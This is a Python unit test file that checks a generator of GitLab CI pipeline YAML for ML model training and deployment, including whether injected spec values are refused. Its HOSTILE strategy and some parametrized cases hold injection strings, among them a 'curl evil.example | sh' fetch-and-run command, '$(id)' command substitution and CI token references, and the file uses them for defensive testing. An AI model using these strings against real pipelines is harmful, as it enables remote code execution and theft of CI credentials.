from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.unit.targets.pipelines import (
    IMAGE,
    MANY_GATES,
    NO_FILES,
    artifacts,
    document,
    holding,
    replaced,
    skeleton,
    training,
)

from mlspec.errors import MlspecError, OutputError
from mlspec.ir import GitLab, PipelineGate
from mlspec.resources import data_path
from mlspec.targets import is_sealed, template_renderer
from mlspec.targets.gitlab_ci import TARGET

RENDER = template_renderer()
TEMPLATE = "gitlab_ci/mlspec.gitlab-ci.yml.j2"


def emitted(render=RENDER, gitlab=None, **changes):
    found = artifacts(TARGET, render, gitlab=GitLab(**gitlab or {}), **changes)
    return found["/.gitlab/mlspec.gitlab-ci.yml"]


def jobs(**changes):
    found = document(emitted(**changes))
    return {name: job for name, job in found.items() if name != "stages"}


def test_it_is_not_written_unless_it_is_asked_for():
    assert not TARGET.is_default


def test_each_environment_is_judged_planned_and_applied_on_its_own():
    found = jobs()

    assert list(found) == [
        *(".mlspec", "mlspec:validate", "mlspec:compile"),
        *("mlspec:gates:prod", "mlspec:plan:prod", "mlspec:apply:prod", "mlspec:applied:prod"),
        "mlspec:drift:prod",
        *("mlspec:gates:staging", "mlspec:plan:staging", "mlspec:apply:staging"),
        *("mlspec:applied:staging", "mlspec:drift:staging"),
    ]
    assert ["mlspec:plan:prod", "mlspec:gates:prod"] == found["mlspec:apply:prod"]["needs"]


def test_only_apply_reaches_an_environment_alone_and_after_somebody_started_it():
    found = {name: job for name, job in jobs().items() if "environment" in job}

    assert ["mlspec:apply:prod", "mlspec:apply:staging"] == list(found)
    job = found["mlspec:apply:prod"]
    assert {"name": "prod"} == job["environment"]
    assert "mlspec-apply-prod" == job["resource_group"]
    assert ["manual"] == [rule["when"] for rule in job["rules"]]
    assert job["interruptible"] is False


def test_a_merge_request_never_gets_a_job_that_writes():
    for name, job in jobs().items():
        if name.startswith(("mlspec:apply:", "mlspec:applied:")):
            assert not any("merge_request" in rule["if"] for rule in job["rules"])


def test_the_widgets_of_a_merge_request_get_their_files():
    found = jobs()

    assert {"codequality"} == set(found["mlspec:validate"]["artifacts"]["reports"])
    assert {"terraform", "codequality", "dotenv"} == set(
        found["mlspec:plan:prod"]["artifacts"]["reports"]
    )
    assert {"junit": "mlspec-gates/prod/*.xml"} == found["mlspec:gates:prod"]["artifacts"][
        "reports"
    ]


def test_without_files_there_is_nothing_to_judge():
    found = jobs(gates=NO_FILES)

    assert not any(name.startswith("mlspec:gates") for name in found)
    assert ["mlspec:validate"] == found["mlspec:plan:prod"]["needs"]


def test_many_models_are_judged_in_portions_that_fit_a_variable():
    job = jobs(gates=MANY_GATES)["mlspec:gates:prod"]
    models = [job["variables"][f"MODELS_{index}"].split() for index in (1, 2, 3)]

    assert [300, 300, 100] == [len(each) for each in models]
    assert [gate.address for gate in MANY_GATES] == [each for part in models for each in part]
    assert [f'judge {index} "$MODELS_{index}"' for index in (1, 2, 3)] == job["script"][1:-1]


def test_the_registry_of_a_runner_is_a_ref_of_the_repository_or_named_by_the_project():
    assert "git:origin" == jobs()["mlspec:apply:prod"]["variables"]["MLSPEC_REGISTRY"]
    assert not any(
        "MLSPEC_REGISTRY" in job.get("variables", {}) for job in jobs(registry="x").values()
    )


def test_runners_are_chosen_by_tags_and_jobs_have_the_image_of_the_workspace():
    image = "registry.example.org/python:3.13@sha256:" + "4f" * 32

    shared = jobs(gitlab={"tags": ("ml", "linux"), "image": image})[".mlspec"]

    assert (image, ["ml", "linux"]) == (shared["image"], shared["tags"])
    assert "tags" not in jobs()[".mlspec"]


def test_what_happens_outside_of_a_change_is_named_by_a_variable_and_deploys_nothing():
    found = jobs(drills=("other", "screen"), trainings=(training(), training(model="other")))
    tasks = {name: job for name, job in found.items() if "MLSPEC_TASK" in str(job.get("rules"))}

    assert list(tasks) == [
        *("mlspec:drift:prod", "mlspec:drill:prod", "mlspec:drift:staging", "mlspec:drill:staging"),
        *("mlspec:train:screen", "mlspec:judge:screen", "mlspec:train:other", "mlspec:judge:other"),
    ]
    assert not any("environment" in job for job in tasks.values())
    assert not any(
        "apply" in str(job["script"]) for name, job in tasks.items() if "judge" not in name
    )
    assert "other screen" == tasks["mlspec:drill:prod"]["variables"]["DRILLS_1"]


def test_a_model_is_trained_when_it_is_named_and_judged_afterwards():
    found = jobs(trainings=(training(), training(model="other", evaluate=())))
    train, judge = found["mlspec:train:screen"], found["mlspec:judge:screen"]

    (rule,) = train["rules"]
    assert '$MLSPEC_TASK == "retrain" && $MLSPEC_MODEL == "screen"' == rule["if"]
    assert train["rules"] == judge["rules"]
    assert ["mlspec:train:screen"] == judge["needs"]
    assert {"name": IMAGE, "entrypoint": [""]} == train["image"]
    assert ("90 minutes", "mlspec-train-screen") == (train["timeout"], train["resource_group"])
    assert [] == train["before_script"]
    assert "EVALUATE" not in found["mlspec:train:other"]["variables"]


def test_more_trainings_than_gitlab_reads_in_one_file_are_in_several():
    models = [f"m-{index:02}" for index in range(65)]
    trainings = tuple(training(model=each) for each in models)

    found = artifacts(TARGET, RENDER, gitlab=GitLab(), trainings=trainings)

    first = document(found["/.gitlab/mlspec.gitlab-ci.yml"])
    paths = ["/.gitlab/mlspec-retrain-2.gitlab-ci.yml", "/.gitlab/mlspec-retrain-3.gitlab-ci.yml"]
    others = [document(found[each]) for each in paths]
    assert [{"local": each} for each in paths] == first["include"]
    assert [{"stages"}] == [set(each) - {*filter(is_of_mlspec, each)} for each in others[:1]]
    named = [name for file in (first, *others) for name in file if ":train:" in name]
    assert [f"mlspec:train:{each}" for each in models] == named
    assert all(is_sealed(found[each].content.encode()) for each in paths)
    assert first["stages"] == others[0]["stages"]


def is_of_mlspec(name):
    return name.startswith("mlspec:")


def test_a_template_that_includes_other_files_is_refused(tmp_path):
    text = (data_path("templates") / TEMPLATE).read_text()
    replaced(tmp_path, TEMPLATE, text, ".mlspec:\n", "include: [{remote: 'x'}]\n.mlspec:\n")

    with pytest.raises(OutputError, match="`include` names other files"):
        emitted(template_renderer(tmp_path))


def test_a_template_that_forgets_the_other_files_is_refused(tmp_path):
    text = (data_path("templates") / TEMPLATE).read_text()
    replaced(tmp_path, TEMPLATE, text, "{% if included %}", "{% if false %}")
    trainings = tuple(training(model=f"m-{index:02}") for index in range(31))

    with pytest.raises(OutputError, match="`include` names other files"):
        emitted(template_renderer(tmp_path), trainings=trainings)


def test_nothing_is_rehearsed_or_trained_where_there_is_nothing():
    assert not any("drill" in name or "train" in name or "judge" in name for name in jobs())


@settings(max_examples=60)
@given(words=st.lists(st.text(max_size=12), min_size=1, max_size=4).map(tuple))
def test_a_command_reaches_the_shell_word_by_word_or_is_refused(words):
    try:
        found = jobs(trainings=(training(command=words, evaluate=()),))
    except OutputError:
        assert not shlex.join(words).isprintable() or "[[" in "".join(words)
        return

    train = found["mlspec:train:screen"]
    assert list(words) == shlex.split(train["variables"]["COMMAND"]["value"])
    assert train["variables"]["COMMAND"]["expand"] is False
    assert ['cd "$MLSPEC_WORKSPACE"', 'sh -c "$COMMAND"'] == train["script"][1:3]


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"command": ("python", "$[[ inputs.x ]]")}, "holds an expression"),
        ({"command": ("python", "a\x1bb")}, "holds an expression, or what is no text"),
        ({"model": 'x" || "'}, "can't be the name of a model"),
        ({"image": "$CI_REGISTRY_IMAGE"}, "can't be the name of a container image"),
    ],
)
def test_a_training_that_is_more_than_a_training_is_refused(changes, reason):
    with pytest.raises(OutputError, match=reason):
        emitted(trainings=(training(**changes),))


def test_what_a_training_leaves_behind_is_passed_on_without_hidden_files():
    kept = jobs(workspace_path="ml", trainings=(training(),))["mlspec:train:screen"]["artifacts"]

    assert ["mlspec-trained/screen/"] == kept["paths"]
    assert ["**/.*", "**/.*/**/*"] == kept["exclude"]


def test_the_file_carries_a_seal_that_an_edit_breaks():
    content = emitted().content.encode()

    assert is_sealed(content)
    assert not is_sealed(content.replace(b"when: manual", b"when: always"))


HOSTILE = st.one_of(
    st.text(min_size=1, max_size=40),
    st.sampled_from(
        [
            '" || $CI_COMMIT_BRANCH =~ /.*/',
            "main\n  script: [id]",
            "main'; curl evil.example | sh; '",
            "$(curl evil.example)",
            "`id`",
            "$CI_JOB_TOKEN",
            "prod\nstages: []",
            "{a: b}",
            "& * ! | > %",
            "../../etc",
            "model/x model/y",
            "\u2028key: value",
            "!reference [.mlspec, script]",
        ]
    ),
)
OF_GITLAB = ("branch", "image", "requirement", "tags")
FIELDS = (
    *("workspace_path", "evidence_path", "mlspec_version", "source", "environments", "gates"),
    *OF_GITLAB,
)


@pytest.mark.parametrize("field", FIELDS)
@settings(max_examples=40)
@given(text=HOSTILE)
def test_no_text_of_a_spec_changes_what_the_jobs_do(field, text):
    value = holding(field, text)
    changed = {"gitlab": {field: value}} if field in OF_GITLAB else {field: value}
    plain = {
        "environments": {"environments": ("staging", "b")},
        "tags": {"gitlab": {"tags": ("b",)}},
    }.get(field, {})

    try:
        found = jobs(**changed)
    except OutputError:
        return

    expected = jobs(**plain)
    if field == "environments":
        found = {
            name.removesuffix(f":{text}") + ":b" if name.endswith(f":{text}") else name: job
            for name, job in found.items()
        }
    assert skeleton(expected) == skeleton(found)
    assert [job.get("script") for job in expected.values()] == [
        job.get("script") for job in found.values()
    ]


@pytest.mark.parametrize(
    ("changes", "what"),
    [
        ({"gitlab": {"branch": 'main" || true'}}, "branch"),
        ({"gitlab": {"image": "python:3.12 evil"}}, "container image"),
        ({"gitlab": {"tags": ("a b",)}}, "runner"),
        ({"gitlab": {"requirement": "mlspec @ https://$CI_JOB_TOKEN"}}, "requirement"),
        ({"environments": ("prod staging",)}, "environment"),
        ({"gates": (PipelineGate("model/$(id)", has_files=True),)}, "model"),
        ({"workspace_path": "../other"}, "folder"),
    ],
)
def test_a_name_that_is_more_than_a_name_is_refused(changes, what):
    with pytest.raises(OutputError, match=f"can't be the name of a {what} in a GitLab pipeline"):
        emitted(**changes)


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        ("    - if: {{ on_branch | yaml }}\n      when: manual\n", "    - when: manual\n", "start"),
        ("      when: manual\n", "      when: always\n", "without somebody who starts it"),
        ("  environment:\n    name: {{ environment.name | yaml }}\n", "", "exactly one"),
        ("mlspec:validate:\n", "default:\n", "is no job of mlspec"),
        ("  stage: drift\n", "  stage: deploy\n", "`deploy` is not in `stages`"),
        ("stages: {{", "stages: [\n# {{", "line"),
        ("mlspec:validate:\n", "---\nmlspec:validate:\n", "is not one YAML mapping"),
    ],
)
def test_a_template_that_gives_unsafe_jobs_is_refused(tmp_path, old, new, reason):
    text = (data_path("templates") / TEMPLATE).read_text(encoding="utf-8")
    replaced(tmp_path, TEMPLATE, text, old, new)

    with pytest.raises(MlspecError, match=reason):
        emitted(template_renderer(tmp_path))
